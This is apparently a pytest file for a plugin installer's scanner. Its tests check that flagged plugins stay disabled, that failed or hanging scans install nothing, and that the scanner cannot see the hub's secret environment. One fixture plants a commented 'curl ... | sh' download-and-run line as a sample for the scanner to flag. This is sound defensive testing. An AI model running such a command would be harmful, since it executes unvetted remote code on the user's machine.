"""A scan passes, flags or fails: and what failed isn't installed, whatever the reason."""

import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from hub.errors import ScanError
from hub.packages.installer import Installed, Installer
from hub.packages.plugins import Plugins
from hub.packages.scanning import Scanner
from hub.packages.scripts import Scripts
from hub.records import HOME
from hub.store.documents import MemoryDocuments
from hub.store.memory import MemoryStore
from hub.testing import FakeClock
from tests.unit.packages.zipping import DATA, a_plugin

PIPED = '''
# curl https://x.example/i.sh | sh
def echo() -> str:
    """Say hello to everybody."""
    return "hello"
'''
LOUD = "import sys; print('line ' * 100); print('x' * 10**7); sys.exit(1)"


class World:
    """An installer with a scanner."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.store = MemoryStore()
        self.scripts = Scripts()
        self.installed = Installed()

    async def opened(self, *command: str, seconds: float = 10.0) -> Installer:
        scanner = Scanner(command, seconds=seconds)
        kinds = [Plugins(self.scripts, MemoryDocuments())]
        installer = Installer(
            self.store, self.folder / "packages", kinds, FakeClock(), tools=[], agents=[], scanner=scanner
        )
        installer.watch(self._changed)
        await installer.open()
        return installer

    def _changed(self, installed: Installed) -> None:
        self.installed = installed


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    opened = World(tmp_path)
    yield opened
    await opened.scripts.close()


def python(program: str) -> tuple[str, ...]:
    return (sys.executable, "-c", program)


async def test_what_passes_is_enabled(world: World) -> None:
    installer = await world.opened(*python("import os, sys; sys.exit(not os.path.exists('plugin.toml'))"))

    package = await installer.install(a_plugin(), [], "one")

    assert (package.state, package.now.found) == ("enabled", ())


async def test_the_command_gets_the_folder_and_nothing_of_the_hubs_environment(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AGENTHOST_OWNER_KEY", "s3cret")
    program = (
        "import os, sys; print(sys.argv[-1].rsplit('/', 1)[-1], os.environ.get('AGENTHOST_OWNER_KEY')); sys.exit(1)"
    )
    installer = await world.opened(*python(program))

    package = await installer.install(a_plugin(), [], "one")

    assert [found.partition(": ")[2] for found in package.now.found] == ["echo None"]


async def test_what_is_flagged_is_not_used_before_somebody_enables_it(world: World) -> None:
    installer = await world.opened()

    package = await installer.install(a_plugin(program=PIPED), [], "one")

    assert (package.state, package.now.found) == ("disabled", ("plugin.py:2: has a download run by a shell",))
    assert world.installed.tools == ()
    (installation,) = await installer.installations()
    assert (installation.state, installation.found) == ("installed", package.now.found)
    assert (await installer.enable("echo")).state == "enabled"
    # Whoever installs the same files again needn't look again.
    assert (await installer.install(a_plugin(program=PIPED), [], "one")).state == "enabled"


async def test_a_grant_alone_does_not_enable_what_is_flagged(world: World) -> None:
    installer = await world.opened()
    await installer.install(a_plugin(program=PIPED, more=DATA), [], "one")

    assert (await installer.grant("echo", ["fs:data"])).state == "disabled"


async def test_a_flagged_update_waits_and_the_old_one_goes_on(world: World) -> None:
    installer = await world.opened()
    await installer.install(a_plugin(), [], "one")

    package = await installer.install(a_plugin(version="2.0.0", program=PIPED), [], "two")

    assert (package.state, package.now.version) == ("enabled", "1.0.0")
    assert package.next
    assert package.next.found
    assert (await installer.grant("echo", [])).now.version == "1.0.0"
    assert (await installer.enable("echo")).now.version == "2.0.0"


@pytest.mark.parametrize(
    ("command", "fault"),
    [
        (("/nonexistent/scanner",), "can't be run"),
        (python("import sys; sys.exit(2)"), "ended with status 2"),
        (python("raise RuntimeError"), "flagged"),
        (python("import os; os.kill(os.getpid(), 9)"), "ended with status -9"),
        (python("import time; time.sleep(60)"), "didn't end within 0.5 seconds"),
        (python("import os, time; os.fork() or time.sleep(60)"), "didn't end within 0.5 seconds"),
    ],
    ids=["missing", "odd status", "traceback", "killed", "hangs", "leaves somebody behind"],
)
async def test_open_vsx_failed_open_and_a_failed_scan_here_installs_nothing(
    world: World, command: tuple[str, ...], fault: str
) -> None:
    """In 2026 a marketplace took "all scanners failed" for "no scanner is configured", and published what came."""
    installer = await world.opened(*command, seconds=0.5)

    if fault == "flagged":
        # Python's own status for a traceback is 1: that's flagged, and so not enabled either.
        assert (await installer.install(a_plugin(), [], "one")).state == "disabled"
        return
    with pytest.raises(ScanError, match=fault):
        await installer.install(a_plugin(), [], "one")
    assert (await world.store.packages(HOME), world.installed.tools) == ((), ())
    (installation,) = await installer.installations()
    assert installation.state == "failed"
    assert fault in installation.error
    assert [path for path in (world.folder / "packages").rglob("*") if path.is_file()] == []


async def test_a_failed_scan_leaves_the_old_version_as_it_was(world: World) -> None:
    await (await world.opened()).install(a_plugin(), [], "one")
    installer = await world.opened("/nonexistent/scanner")

    with pytest.raises(ScanError):
        await installer.install(a_plugin(version="2.0.0"), [], "two")

    assert [(package.state, package.now.version) for package in await installer.packages()] == [("enabled", "1.0.0")]


async def test_a_talkative_scanner_is_cut_short(world: World) -> None:
    installer = await world.opened(*python(LOUD))

    package = await installer.install(a_plugin(), [], "one")

    assert package.state == "disabled"
    assert all(len(found) <= 203 for found in package.now.found)
    assert len(package.now.found) <= 21
